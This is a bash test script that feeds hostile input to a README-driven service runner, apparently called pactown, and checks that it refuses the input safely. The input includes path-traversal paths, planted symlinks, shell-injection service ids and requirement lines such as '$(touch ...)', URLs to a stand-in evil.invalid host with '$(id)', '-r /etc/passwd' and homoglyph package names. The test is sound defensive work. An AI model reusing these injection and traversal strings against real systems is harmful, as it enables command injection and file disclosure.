#!/usr/bin/env bash
# Hostile input, beyond tests/integration/bad_input.sh:
#   markpact:file paths with NUL, CR, backslashes, invalid UTF-8, unicode
#   lookalikes, the reserved .pactown; a symlink / hard link / FIFO planted at
#   the final file name; a sandbox directory that is itself a symlink;
#   service ids with '/', '..', 65 bytes, a leading dash, unicode;
#   requirement lines with shell syntax, pip options, URLs and paths — none
#   reaches a shell (a canary file is never created), each exits 3 naming the
#   README line and the problem;
#   lookups of malformed names in the mount (ENOENT / ENAMETOOLONG) and every
#   kind of write (EROFS), after which the daemon still serves.
. "$(dirname "$0")/../integration/lib.sh"
. "$(dirname "$0")/lib_limits.sh"

CANARY=/tmp/pwned-$$-$RANDOM$RANDOM
rm -f "$CANARY"
canary_absent() { [ ! -e "$CANARY" ] || fail "$1: the canary $CANARY was created: something reached a shell"; }
# (the test's exit status must reach limits_cleanup: rm would reset $?)
trap 'rc=$?; set +e; rm -f "$CANARY"; (exit $rc); limits_cleanup' EXIT

mount_start
DEPS='```text markpact:deps python\nptdemo-core==1.0\n```\n'
RUN='```bash markpact:run\ntrue\n```\n'

# file_readme OUT PATH-BYTES: a README whose line 1 is a markpact:file fence with
# path=PATH-BYTES (printf escapes allowed), body "x"
file_readme() { printf '```text markpact:file path='"$2"'\nx\n```\n'"$DEPS$RUN" >"$1"; }
run_ok() { expect_exit 0 "" "$PACTOWN" run "$@" --skip-health-check; }
# the last error message carries no raw byte >= 0x7f (invalid UTF-8, C1 controls: shown as \xNN)
raw_free() { ! LC_ALL=C grep -q $'[\x7f-\xff]' "$WORK/out" || fail "$1: raw bytes in the message: $(od -c "$WORK/out" | head -n 5)"; }

# ---------------------------------------------------------------- file paths
mkdir -p "$WORK/outside"
# NUL in the fence line, in a block body; a NUL in prose is only text
file_readme "$WORK/nul.md" 'ok\0../../outside/evil'
expect_exit 3 "nul.md:1: NUL byte in a markpact fence line" "$PACTOWN" run "$WORK/nul.md" --service-id nul
printf '# t\n```text markpact:file path=a.txt\nx\0y\n```\n'"$DEPS$RUN" >"$WORK/nulbody.md"
expect_exit 3 "nulbody.md:3: NUL byte inside the markpact block opened at line 2" "$PACTOWN" run "$WORK/nulbody.md" --service-id nul
printf '# prose with a \0 NUL\n'"$DEPS$RUN" >"$WORK/nulprose.md"
run_ok "$WORK/nulprose.md" --service-id nulprose
# CR inside a path (a CRLF line end is a line end, not part of the path)
file_readme "$WORK/cr.md" 'a\rb.txt'
expect_exit 3 'cr.md:1: markpact:file path "a\\x0db.txt": path contains a control character' "$PACTOWN" run "$WORK/cr.md" --service-id cr
printf '```text markpact:file path=crlf.txt\r\nx\r\n```\r\n'"$DEPS$RUN" >"$WORK/crlf.md"
run_ok "$WORK/crlf.md" --service-id crlf
[ "$(cat "$WORK/sandboxes/crlf/crlf.txt")" = x ] || fail "CRLF README: crlf.txt"
# other control bytes: ESC, DEL, form feed
for b in '\033' '\177' '\f'; do
    file_readme "$WORK/ctl.md" "a${b}b"
    expect_exit 3 'ctl.md:1: .*control character' "$PACTOWN" run "$WORK/ctl.md" --service-id ctl
done
# backslashes
for p in '..\\\\..\\\\outside\\\\evil' 'a\\\\b.txt' 'C:\\\\evil'; do
    file_readme "$WORK/bs.md" "$p"
    expect_exit 3 'bs.md:1: .*path contains a backslash' "$PACTOWN" run "$WORK/bs.md" --service-id bs
done
# invalid UTF-8: an overlong '/' (C0 AF) and '.' (C0 AE), a lone continuation byte
for p in '..\300\257..\300\257outside' '\300\256\300\256/x' 'a\200b'; do
    file_readme "$WORK/utf.md" "$p"
    expect_exit 3 'utf.md:1: .*path is not valid UTF-8' "$PACTOWN" run "$WORK/utf.md" --service-id utf
    raw_free "invalid UTF-8 path"
done
# a C1 control (U+009B, CSI: a terminal escape) in a path that is refused: not echoed raw
file_readme "$WORK/c1.md" "a\302\233[2J/$(head -c 256 /dev/zero | tr '\0' n)"
expect_exit 3 'c1.md:1: markpact:file path "a\\xc2\\x9b\[2J/n+\.\.\.": a path component is longer than 255 bytes' \
    "$PACTOWN" run "$WORK/c1.md" --service-id c1
raw_free "C1 control in a path"
# reserved: .pactown (the service log lives there) and .venv, first component only
for p in .pactown/service.log .pactown .venv .venv/x; do
    file_readme "$WORK/res.md" "$p"
    expect_exit 3 'res.md:1: .*"\.venv" and "\.pactown" are reserved' "$PACTOWN" run "$WORK/res.md" --service-id res
done
for p in ./.pactown/x 'a/./b' 'a//b' 'a/'; do
    file_readme "$WORK/dot.md" "$p"
    expect_exit 3 'dot.md:1: markpact:file path' "$PACTOWN" run "$WORK/dot.md" --service-id dot
done
# unicode lookalikes are ordinary names: written inside the sandbox under that exact name
# U+2215 DIVISION SLASH, U+FF0E FULLWIDTH FULL STOP, U+2024 ONE DOT LEADER, U+202E RLO, U+FF0F FULLWIDTH SOLIDUS
for p in '..∕..∕outside∕uni1' '．．/．．/uni2' '․venv/uni3' "$(printf '\342\200\256exe.txt')" 'a／..／..／uni5'; do
    file_readme "$WORK/uni.md" "$p"
    run_ok "$WORK/uni.md" --service-id uni
    [ "$(cat "$WORK/sandboxes/uni/$p")" = x ] || fail "unicode path '$p' not written inside the sandbox"
done
[ -z "$(ls -A "$WORK/outside")" ] || fail "a lookalike path wrote outside the sandbox: $(ls -A "$WORK/outside")"
[ ! -e "$WORK/sandboxes/uni/.venv/uni3" ] || fail "a .venv lookalike wrote into .venv"

# things planted at the FINAL name are replaced, never followed or opened
sb=$WORK/sandboxes/plant
mkdir -p "$sb/sub"
echo original >"$WORK/outside/target.txt"
ln -s "$WORK/outside/target.txt" "$sb/app.py"                   # symlink to an outside file
ln -s "$WORK/outside/created-by-follow.txt" "$sb/dangling.py"   # dangling symlink to an outside name
ln -s "$WORK/outside" "$sb/sub/dirlink"                         # symlink to an outside directory
echo hardlinked >"$WORK/outside/hard.txt"
ln "$WORK/outside/hard.txt" "$sb/hard.py"                       # hard link to an outside file
mkfifo "$sb/fifo.py"                                            # opening it would block
{
    for f in app.py dangling.py sub/dirlink hard.py fifo.py; do
        printf '```text markpact:file path=%s\nnew %s\n```\n' "$f" "$f"
    done
    printf "$DEPS$RUN"
} >"$WORK/plant.md"
timeout 60 "$PACTOWN" run "$WORK/plant.md" --service-id plant --skip-health-check >"$WORK/out" 2>&1 \
    || fail "README over planted links: exit $?: $(cat "$WORK/out")"
for f in app.py dangling.py sub/dirlink hard.py fifo.py; do
    [ -f "$sb/$f" ] && [ ! -L "$sb/$f" ] || fail "$f is not a regular file after the run"
    assert_eq "$(cat "$sb/$f")" "new $f" "content of $f"
done
assert_eq "$(cat "$WORK/outside/target.txt")" original "outside file behind the planted symlink"
assert_eq "$(cat "$WORK/outside/hard.txt")" hardlinked "outside file behind the planted hard link"
[ ! -e "$WORK/outside/created-by-follow.txt" ] || fail "the dangling symlink was followed"
assert_eq "$(ls -A "$WORK/outside" | sort | tr '\n' ' ')" "hard.txt target.txt " "outside directory"
# a directory at the final name: a clear error, nothing removed
mkdir -p "$WORK/sandboxes/dirat/app.py/keep"
printf '```text markpact:file path=app.py\nx\n```\n'"$DEPS$RUN" >"$WORK/dirat.md"
expect_exit 1 "dirat.md:1: .*app.py.*a directory is in the way" "$PACTOWN" run "$WORK/dirat.md" --service-id dirat
[ -d "$WORK/sandboxes/dirat/app.py/keep" ] || fail "the directory in the way was removed"
# the sandbox directory itself is a symlink to the outside
mkdir -p "$WORK/outside-sb"
ln -s "$WORK/outside-sb" "$WORK/sandboxes/linked"
file_readme "$WORK/linked.md" app.py
expect_exit 1 "sandbox .*/linked: .*symlink" "$PACTOWN" run "$WORK/linked.md" --service-id linked
[ -z "$(ls -A "$WORK/outside-sb")" ] || fail "written through a sandbox that is a symlink: $(ls -A "$WORK/outside-sb")"
assert_eq "$(readlink "$WORK/sandboxes/linked")" "$WORK/outside-sb" "the symlinked sandbox is left alone"
# .venv planted as a symlink to the outside: replaced by the link into the mount
mkdir -p "$WORK/sandboxes/venvlink"
ln -s "$WORK/outside" "$WORK/sandboxes/venvlink/.venv"
printf "$DEPS$RUN" >"$WORK/venvlink.md"
run_ok "$WORK/venvlink.md" --service-id venvlink
case "$(readlink "$WORK/sandboxes/venvlink/.venv")" in "$MNT/by-deps/"*) ;; *) fail ".venv not replaced: $(readlink "$WORK/sandboxes/venvlink/.venv")" ;; esac
canary_absent "file paths"

# --------------------------------------------------------------- service ids
printf "$DEPS$RUN" >"$WORK/ok.md"
id65=$(head -c 65 /dev/zero | tr '\0' s)
for id in '/' 'a/../b' '..' '.' "$id65" '-rf' '-' '_x' '.hidden' 'sérvice' 'ѕervice' $'a\nb' 'a b' "\$(touch $CANARY)" '' 'a;b'; do
    expect_exit 2 "service-id" "$PACTOWN" run "$WORK/ok.md" --service-id="$id"
    expect_exit 8 "" "$PACTOWN" stop -- "$id"
done
id64=$(head -c 64 /dev/zero | tr '\0' s)
run_ok "$WORK/ok.md" --service-id "$id64"
[ -d "$WORK/sandboxes/$id64" ] || fail "a 64-byte service id (the maximum) was not accepted"
# hostile README file names give a safe default id
mkdir -p "$WORK/names"
for name in '-rf.md' '..md' 'évil name;$(x).md' $'new\nline.md' 'ѕervice.md'; do
    printf "$DEPS$RUN" >"$WORK/names/$name"
    expect_exit 0 "started [A-Za-z0-9][A-Za-z0-9._-]{0,63} " "$PACTOWN" run "$WORK/names/$name" --skip-health-check
done
[ -z "$(find "$WORK/sandboxes" -maxdepth 1 -name '*[!A-Za-z0-9._-]*' -print -quit)" ] \
    || fail "a sandbox with an unsafe name: $(ls "$WORK/sandboxes")"
canary_absent "service ids"

# ----------------------------------------------------------- requirement lines
registered=$(stat_json registered)
# each table row: REASON<TAB>LINE; LINE is README line 4, -r line 2, and an argument
n=0
while IFS= read -r line; do
    [ -n "$line" ] || continue
    reason=${line%%	*}
    req=${line#*	}
    req=${req//CANARY/$CANARY}
    n=$((n + 1))
    printf '# hostile\n```text markpact:deps python\nptdemo-core\n%s\n```\n```bash markpact:run\ntrue\n```\n' "$req" >"$WORK/req$n.md"
    expect_exit 3 "req$n.md:4: .*$reason" "$PACTOWN" run "$WORK/req$n.md" --service-id req
    printf 'ptdemo-core\n%s\n' "$req" >"$WORK/req$n.txt"
    expect_exit 3 "req$n.txt:2: .*$reason" "$PACTOWN" hash -r "$WORK/req$n.txt"
    expect_exit 3 "argument: .*$reason" "$PACTOWN" hash -- "$req"
done <<'EOF'
shell syntax	$(touch CANARY)
shell syntax	`touch CANARY`
shell syntax	ptdemo-core`touch CANARY`
unknown marker variable 'touch'	ptdemo-core; touch CANARY
shell syntax	ptdemo-core | touch CANARY
shell syntax	ptdemo-core && touch CANARY
unexpected '/' after the version operator	ptdemo-core > CANARY
shell syntax	ptdemo-core>=1 < CANARY
shell syntax	ptdemo-core $(touch CANARY)
environment variable	ptdemo-core==${HOME}
environment variable	${PWNED}/x
local paths and file: URLs are refused	-f file:///tmp
local paths and file: URLs are refused	--index-url=file:///etc
pactown settings	--trusted-host evil.invalid
pactown settings	--no-index
a character that URLs do not	--index-url https://evil.invalid/$(id)
a character that URLs do not	--extra-index-url=https://evil.invalid/`id`
takes one URL, and nothing after it	--index-url https://evil.invalid/simple ; touch CANARY
credentials in a README's URL are refused	--extra-index-url https://u:tok3n@evil.invalid/simple
editable installs	-e git+ssh://git@evil.invalid/x.git#egg=x
editable installs	--editable=.
includes	-r /etc/passwd
includes	-c CANARY
--hash needs sha256	ptdemo-core==1.0 --hash=sha256:0000
only --hash options may follow	ptdemo-core==1.0 --hash=sha256:0000000000000000000000000000000000000000000000000000000000000000 $(touch CANARY)
per-requirement options	ptdemo-core --install-option=--prefix=/tmp
options	--pre
a bare URL	file:///etc/passwd
a bare URL	file:CANARY
a bare URL	git+https://evil.invalid/x.git
a bare URL	https://evil.invalid/x-1.0-py3-none-any.whl
local paths and file: URLs are refused	ptdemo-core @ file:///etc/passwd
expected an http://, https:// or git\+https:// URL	ptdemo-core @ git+ssh://git@evil.invalid/x
a character that URLs do not	ptdemo-core @ https://evil.invalid/$(id).whl
a character that URLs do not	ptdemo-core @ https://evil.invalid/x.whl"; touch CANARY; "
credentials in a README's URL are refused	ptdemo-core @ https://u:tok3n@evil.invalid/x.whl
unexpected '\$' after the URL	ptdemo-core @ https://evil.invalid/x.whl $(touch CANARY)
'@' needs a URL	ptdemo-core @
local paths	../local/path
local paths	./x
local paths	/abs/path
local paths	~/x
local archive	x-1.0.tar.gz
local archive	pkg.whl
shell metacharacter	pkg[extra]>=1; os_name == "posix$(touch CANARY)"
unexpected '\$'	pkg[extra]>=1; os_name == "posix" and $(x)
unexpected '\$'	pkg>=1; python_version >= "3" and $(touch CANARY)
quotes inside a marker string	pkg; os_name == "a'b"
unterminated string in the marker	pkg; os_name == "a #b"
byte \\xd0	flаsk
byte \\xef	ptdemo-core﻿
EOF
# a comment may say anything: it is dropped, the line is valid
expect_exit 0 "^ptdemo-core==1\.0$" "$PACTOWN" hash "ptdemo-core==1.0  # \$(touch $CANARY); \`rm -rf /\`"
# a continued line cannot smuggle shell syntax past the check
printf 'ptdemo-core \\\n; $(touch %s)\n' "$CANARY" >"$WORK/cont.txt"
expect_exit 3 "cont.txt:1: " "$PACTOWN" hash -r "$WORK/cont.txt"
assert_eq "$(stat_json registered)" "$registered" "registered sets after the hostile requirement lines"
canary_absent "requirement lines"
figure "$n hostile requirement lines x 3 ways (README, -r, argument): exit 3 each, canary absent"

# ------------------------------------------------------- lookups in the mount
good=$(register ptdemo-core==1.0)
"$MNT/by-deps/$good/bin/python" -c 'import ptdemo_core' || fail "the venv to keep serving"
upper=$(printf '%s' "$good" | tr a-f A-F)
mixed=${good:0:31}$(printf '%s' "${good:31:1}" | tr a-f0-9 A-FA-F)
[ "$mixed" != "$good" ] || mixed=${good:0:31}G
n=0
for name in "$upper" "$mixed" "${good:0:31}" "${good}0" "${good:1}x" ... "..$good" "$good.." ".$good" \
    "$good"$'\n' $'\n'"$good" "${good:0:16}"$'\n'"${good:16}" "$good " " $good" "$good/" \
    "$(head -c 255 /dev/zero | tr '\0' a)" "$(head -c 223 /dev/zero | tr '\0' 0)$good" "$good.log" "-$good"; do
    for dir in by-deps logs by-service; do
        case "$dir/$name" in "by-deps/$good/"|"logs/$good.log") continue ;; esac  # the real ones
        out=$(stat -- "$MNT/$dir/$name" 2>&1) && fail "$dir/$(printf %q "$name") exists"
        case "$out" in *"No such file or directory"*|*"Not a directory"*) ;; *) fail "$dir/$(printf %q "$name"): expected ENOENT, got: $out" ;; esac
        n=$((n + 1))
    done
done
# logs/<KEY>.log in uppercase, by-service ids that are not valid
for name in "$upper.log" "${good:0:31}.log" "$good.LOG" "$good.log.1"; do
    out=$(stat -- "$MNT/logs/$name" 2>&1) && fail "logs/$name exists"
    case "$out" in *"No such file or directory"*) ;; *) fail "logs/$name: $out" ;; esac
done
# '..' is resolved by the kernel: by-deps/.. is the mount's root, never a venv
assert_eq "$(stat -c %i "$MNT/by-deps/..")" "$(stat -c %i "$MNT")" "inode of by-deps/.."
# names over NAME_MAX: the FUSE kernel module passes up to 1024 (older kernels) or
# 4095 bytes to the daemon (ENOENT); longer ones it refuses itself (ENAMETOOLONG)
for len in 256 1024 1025 4000; do
    for dir in by-deps logs by-service; do
        out=$(stat -- "$MNT/$dir/$(head -c "$len" /dev/zero | tr '\0' a)" 2>&1) && fail "a $len-byte name exists"
        case "$out" in *"No such file"*|*"File name too long"*) ;; *) fail "$dir/<$len bytes>: $out" ;; esac
    done
done
# long paths: 4095 bytes walk to the first missing name (ENOENT); 4096 bytes are ENAMETOOLONG
base="$MNT/by-deps/"
for total in 4095 4096; do
    p=$base
    while [ $(( ${#p} + 2 )) -le "$total" ]; do p="${p}x/"; done
    while [ ${#p} -lt "$total" ]; do p="${p}y"; done
    assert_eq "${#p}" "$total" "length of the long path"
    out=$(stat -- "$p" 2>&1) && fail "a $total-byte path exists"
    case "$total:$out" in 4095:*"No such file or directory"*|4096:*"File name too long"*) ;; *) fail "$total-byte path: $out" ;; esac
done
# through a built venv: 4095 bytes of ../ climbs stay in the real filesystem (the store), not the mount
p="$MNT/by-deps/$good/"
while [ $(( ${#p} + 3 )) -le 4000 ]; do p="${p}../"; done
[ "$(cd -P "$p" && pwd -P)" = / ] || fail "../ from a venv did not end at /"
daemon_alive
"$MNT/by-deps/$good/bin/python" -c 'import ptdemo_core' || fail "the venv after the malformed lookups"
figure "$n malformed lookups (ENOENT), 256..4000-byte names (ENOENT), 4095/4096-byte paths: daemon alive"

# ----------------------------------------------------- writes through the mount
# expect_erofs CMD...: fails with "Read-only file system"
expect_erofs() {
    local out
    out=$("$@" 2>&1) && fail "$(printf '%q ' "$@"): succeeded on the read-only mount"
    case "$out" in *"Read-only file system"*) ;; *) fail "$(printf '%q ' "$@"): expected EROFS, got: $out" ;; esac
}
ln -sf "$good" "$WORK/goodkey"
log=$MNT/logs/$good.log
venv=$MNT/by-deps/$good
pyfile=$(ls "$venv"/lib/python3*/site-packages/ptdemo_core/__init__.py)
n=0
for target in "$MNT/newfile" "$MNT/by-deps/newfile" "$MNT/by-service/x" "$MNT/logs/x.log" "$MNT/stats" "$log" "$venv/newfile"; do
    expect_erofs touch "$target"; n=$((n + 1))
done
for d in "$MNT/d" "$MNT/by-deps/d" "$MNT/by-deps/$good/d"; do expect_erofs mkdir "$d"; n=$((n + 1)); done
expect_erofs mkdir "$MNT/by-deps/$(printf 'a%.0s' $(seq 32))"; n=$((n + 1))
expect_erofs ln -s / "$MNT/by-deps/link"; n=$((n + 1))
expect_erofs ln -s "$WORK/cache/store/$good" "$MNT/by-deps/00000000000000000000000000000000"; n=$((n + 1))
expect_erofs ln "$MNT/stats" "$MNT/stats2"; n=$((n + 1))
expect_erofs mv "$MNT/stats" "$MNT/stats2"; n=$((n + 1))
expect_erofs mv "$MNT/by-deps/$good" "$MNT/by-deps/x"; n=$((n + 1))
expect_erofs mv "$log" "$MNT/logs/x.log"; n=$((n + 1))
expect_erofs rm -f "$MNT/stats"; n=$((n + 1))
expect_erofs rm -f "$MNT/by-deps/$good"; n=$((n + 1))
expect_erofs rm -f "$log"; n=$((n + 1))
expect_erofs rm -f "$pyfile"; n=$((n + 1))
expect_erofs rm -rf "$MNT/by-deps/$good/"; n=$((n + 1))
expect_erofs rmdir "$MNT/by-service"; n=$((n + 1))
expect_erofs truncate -s 0 "$MNT/stats"; n=$((n + 1))
expect_erofs truncate -s 0 "$log"; n=$((n + 1))
expect_erofs truncate -s 0 "$pyfile"; n=$((n + 1))
expect_erofs sh -c "echo x > '$MNT/stats'"; n=$((n + 1))
expect_erofs sh -c "echo x >> '$log'"; n=$((n + 1))
expect_erofs sh -c "echo x >> '$pyfile'"; n=$((n + 1))
expect_erofs chmod 777 "$MNT/stats"; n=$((n + 1))
expect_erofs chmod 777 "$MNT/by-deps"; n=$((n + 1))

expect_erofs chmod 777 "$pyfile"; n=$((n + 1))
expect_erofs chown nobody "$MNT/stats"; n=$((n + 1))
expect_erofs chown -h nobody "$MNT/by-deps/$good"; n=$((n + 1))
expect_erofs touch -d @0 "$MNT/by-deps"; n=$((n + 1))
expect_erofs mkfifo "$MNT/by-deps/fifo"; n=$((n + 1))
expect_erofs mknod "$MNT/by-deps/null" c 1 3; n=$((n + 1))
expect_erofs fallocate -l 4096 "$MNT/stats"; n=$((n + 1))
for t in "$MNT/stats" "$MNT/by-deps" "$log" "$pyfile"; do
    expect_erofs python3 -c "import os, sys; os.setxattr(sys.argv[1], 'user.pwn', b'1')" "$t"; n=$((n + 1))
    expect_erofs python3 -c "import os, sys; os.removexattr(sys.argv[1], 'user.pwn')" "$t"; n=$((n + 1))
done
if command -v setfattr >/dev/null; then
    expect_erofs setfattr -n user.pwn -v 1 "$MNT/stats"; n=$((n + 1))
fi
expect_erofs python3 -c "import os, sys; os.open(sys.argv[1], os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)" "$MNT/by-deps/$good/x"; n=$((n + 1))
expect_erofs python3 -c "import os, sys; os.open(sys.argv[1], os.O_RDONLY | os.O_TRUNC)" "$MNT/stats"; n=$((n + 1))
expect_erofs python3 -c "import os, sys; os.utime(sys.argv[1], (0, 0), follow_symlinks=False)" "$MNT/by-deps/$good"; n=$((n + 1))
expect_erofs python3 -c "import os, sys; os.rename(sys.argv[1], sys.argv[2])" "$MNT/logs" "$MNT/logs2"; n=$((n + 1))
[ "$(cat "$pyfile" | head -c 100)" ] || fail "a venv file lost its content"
daemon_alive
"$MNT/by-deps/$good/bin/python" -c 'import ptdemo_core; assert ptdemo_core.VERSION == "1.0"' || fail "the venv after the writes"
figure "$n writes through the mount: EROFS each; daemon alive"
canary_absent "the end"
pass
